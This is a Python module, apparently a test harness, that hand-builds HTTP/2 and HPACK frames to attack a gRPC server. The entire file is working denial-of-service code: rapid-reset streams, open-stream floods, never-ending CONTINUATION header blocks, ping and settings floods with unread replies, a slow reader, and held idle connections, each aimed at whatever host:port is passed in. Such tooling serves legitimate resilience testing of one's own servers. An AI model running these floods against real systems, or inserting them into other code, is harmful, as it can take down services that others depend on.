"""A misbehaving HTTP/2 client: frames made by hand, sent as fast as the other side accepts them.

An HTTP/2 library keeps its user from breaking the protocol, which is what an attacker does. So this
one implements just enough of RFC 9113 and of HPACK to call a method of gRPC, and to misbehave:
streams that are opened and reset at once, header blocks that never end, pings and settings without
a pause, replies that are not read, connections on which nothing is ever sent.

Each attack runs in its caller's thread for ``seconds``, over a bounded number of ``connections``,
reopens those that the server ends, and returns what it did (``Tally``).
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

__all__ = [
    "Peer",
    "Tally",
    "closed",
    "connect",
    "continuation_flood",
    "frame",
    "headers",
    "idle",
    "open_flood",
    "ping_flood",
    "rapid_reset",
    "settings_flood",
    "slow_reader",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
STREAM_ID_MAX = 2**31 - 1
_CANCEL = 8
_FIRST_DYNAMIC = 62
_BATCH = 500
_RECONNECT_S = 0.02
_CONNECT_TIMEOUT_S = 2.0


@dataclass(slots=True)
class Tally:
    """What an attack did: ``sent_bytes``, ``batches`` of frames, ``connections`` that it opened,
    ``closed`` by the server, ``refused`` before they were open."""

    sent_bytes: int = 0
    received_bytes: int = 0
    batches: int = 0
    connections: int = 0
    closed: int = 0
    refused: int = 0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    size = struct.pack(">I", len(payload))[1:]
    return size + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _integer(value: int, bits: int, first: int = 0) -> bytes:
    """An integer of HPACK in a prefix of ``bits`` bits of the byte ``first``."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    found = bytearray((first | limit,))
    value -= limit
    while value >= 0x80:
        found.append(0x80 | value & 0x7F)
        value >>= 7
    found.append(value)
    return bytes(found)


def headers(fields: list[tuple[str, str]], *, indexed: bool = False) -> bytes:
    """A header block of literals; ``indexed``: each is put into the table of the connection."""
    block = bytearray()
    for name, value in fields:
        block += b"\x40" if indexed else b"\x00"
        for text in (name.encode(), value.encode()):
            block += _integer(len(text), 7) + text
    return bytes(block)


def request_fields(path: str, token: str = "") -> list[tuple[str, str]]:
    """The headers of a gRPC call to ``path`` (``/package.Service/Method``)."""
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
        ("te", "trailers"), ("content-type", "application/grpc"),
    ]  # fmt: skip
    return [*fields, ("authorization", f"Bearer {token}")] if token else fields


class Peer:
    """One connection, open to any abuse. ``out`` is what waits to be sent."""

    def __init__(self, connection: socket.socket) -> None:
        self.socket = connection
        self.out = memoryview(b"")
        self.next_stream = 1
        self.named = False
        """Whether the fields of a request are in the connection's table."""

    def open_streams(self, count: int, fields: list[tuple[str, str]], *, reset: bool) -> bytes:
        """Frames that begin ``count`` calls; ``reset``: and cancel each at once."""
        block = bytes(0x80 | (_FIRST_DYNAMIC + n) for n in range(len(fields)))[::-1]
        found = bytearray()
        if not self.named:
            self.named = True
            first = headers(fields, indexed=True)
            found += frame(HEADERS, END_HEADERS, self._stream(), first)
        why = struct.pack(">I", _CANCEL)
        for _ in range(count):
            stream = self._stream()
            found += frame(HEADERS, END_HEADERS, stream, block)
            if reset:
                found += frame(RST_STREAM, 0, stream, why)
        return bytes(found)

    def _stream(self) -> int:
        self.next_stream += 2
        return self.next_stream - 2


def connect(target: str, secure: ssl.SSLContext | None = None) -> Peer:
    """A connection to ``target`` (host:port) on which the preface was sent.

    Raises:
        OSError: it was refused.
    """
    host, _, port = target.rpartition(":")
    connection = socket.create_connection((host.strip("[]"), int(port)), _CONNECT_TIMEOUT_S)
    try:
        if secure is not None:
            connection = secure.wrap_socket(connection, server_hostname=host)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
    except OSError:
        connection.close()
        raise
    return Peer(connection)


SentBytes = Callable[[Peer], bytes]


def _flood(
    target: str,
    payload_of: SentBytes,
    *,
    seconds: float,
    connections: int,
    reads: bool = True,
    secure: ssl.SSLContext | None = None,
) -> Tally:
    """Send what ``payload_of`` makes, on all connections, repeatedly."""
    tally = Tally()
    until_s = time.monotonic() + seconds
    with selectors.DefaultSelector() as ready:
        while time.monotonic() < until_s:
            while len(ready.get_map()) < connections:
                try:
                    peer = connect(target, secure)
                except OSError:
                    tally.refused += 1
                    time.sleep(_RECONNECT_S)
                    break
                peer.socket.setblocking(False)
                tally.connections += 1
                events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
                ready.register(peer.socket, events, peer)
            for key, mask in ready.select(0.05):
                if not _turn(key.data, mask, payload_of, tally):
                    tally.closed += 1
                    ready.unregister(key.fileobj)
                    key.data.socket.close()
        for key in list(ready.get_map().values()):
            key.data.socket.close()
    return tally


def _turn(peer: Peer, mask: int, payload_of: SentBytes, tally: Tally) -> bool:
    """Read and send what is possible now; False: the server has ended the connection."""
    try:
        if mask & selectors.EVENT_READ:
            received = peer.socket.recv(1 << 18)
            tally.received_bytes += len(received)
            if not received:
                return False
        if mask & selectors.EVENT_WRITE:
            if not peer.out:
                if peer.next_stream > STREAM_ID_MAX - 4 * _BATCH:
                    return False
                peer.out = memoryview(payload_of(peer))
                tally.batches += 1
            sent = peer.socket.send(peer.out)
            peer.out = peer.out[sent:]
            tally.sent_bytes += sent
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
    except OSError:
        return False
    return True


def rapid_reset(
    target: str,
    path: str,
    *,
    token: str = "",
    seconds: float = 3.0,
    connections: int = 4,
    secure: ssl.SSLContext | None = None,
) -> Tally:
    """Calls that are begun and cancelled at once, so that they never count as open."""
    fields = request_fields(path, token)

    def payload_of(peer: Peer) -> bytes:
        return peer.open_streams(_BATCH, fields, reset=True)

    return _flood(target, payload_of, seconds=seconds, connections=connections, secure=secure)


def open_flood(
    target: str, path: str, *, token: str = "", seconds: float = 3.0, connections: int = 4
) -> Tally:
    """Calls that are begun and left open, whatever number of them the server allows."""
    fields = request_fields(path, token)

    def payload_of(peer: Peer) -> bytes:
        return peer.open_streams(_BATCH, fields, reset=False)

    return _flood(target, payload_of, seconds=seconds, connections=connections)


def continuation_flood(target: str, *, seconds: float = 3.0, connections: int = 4) -> Tally:
    """One header block per connection that never ends."""
    more = headers([("x-filler", "y" * 1000)] * 15)

    def payload_of(peer: Peer) -> bytes:
        if peer.named:
            return frame(CONTINUATION, 0, 1, more) * 8
        peer.named = True
        return frame(HEADERS, 0, 1, headers(request_fields("/x/y")))

    return _flood(target, payload_of, seconds=seconds, connections=connections)


def ping_flood(target: str, *, seconds: float = 3.0, connections: int = 4) -> Tally:
    """Pings without a pause, whose replies are not read."""
    pings = frame(PING, 0, 0, b"12345678") * _BATCH
    return _flood(target, lambda _: pings, seconds=seconds, connections=connections, reads=False)


def settings_flood(target: str, *, seconds: float = 3.0, connections: int = 4) -> Tally:
    """New settings without a pause, each of which requires a reply that is not read."""
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * _BATCH
    return _flood(target, lambda _: window, seconds=seconds, connections=connections, reads=False)


def slow_reader(
    target: str, path: str, *, token: str = "", seconds: float = 3.0, connections: int = 4
) -> Tally:
    """Whole calls with an empty message, and with windows wide open, whose replies are not read."""
    fields = request_fields(path, token)
    message = b"\x00\x00\x00\x00\x00"

    def payload_of(peer: Peer) -> bytes:
        opened = bytearray()
        if not peer.named:
            opened += frame(SETTINGS, 0, 0, struct.pack(">HI", 4, STREAM_ID_MAX))
            opened += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
        for _ in range(_BATCH):
            stream = peer.next_stream
            opened += peer.open_streams(0 if not peer.named else 1, fields, reset=False)
            opened += frame(DATA, END_STREAM, stream, message)
        return bytes(opened)

    return _flood(target, payload_of, seconds=seconds, connections=connections, reads=False)


@contextlib.contextmanager
def idle(target: str, connections: int, *, preface: bool = False) -> Iterator[list[socket.socket]]:
    """As many connections as the server accepts, on which nothing is sent, or with ``preface`` only
    the beginning of HTTP/2, without a call."""
    host, _, port = target.rpartition(":")
    held: list[socket.socket] = []
    try:
        for _ in range(connections):
            try:
                one = socket.create_connection((host.strip("[]"), int(port)), _CONNECT_TIMEOUT_S)
            except OSError:
                continue
            held.append(one)
            if preface:
                with contextlib.suppress(OSError):
                    one.sendall(PREFACE + frame(SETTINGS, 0, 0))
        yield held
    finally:
        for one in held:
            one.close()


def closed(held: list[socket.socket]) -> int:
    """How many of these connections the server has ended."""
    found = 0
    for one in held:
        one.setblocking(False)
        try:
            while received := one.recv(1 << 16):
                del received
            found += 1
        except BlockingIOError:
            continue
        except OSError:
            found += 1
    return found
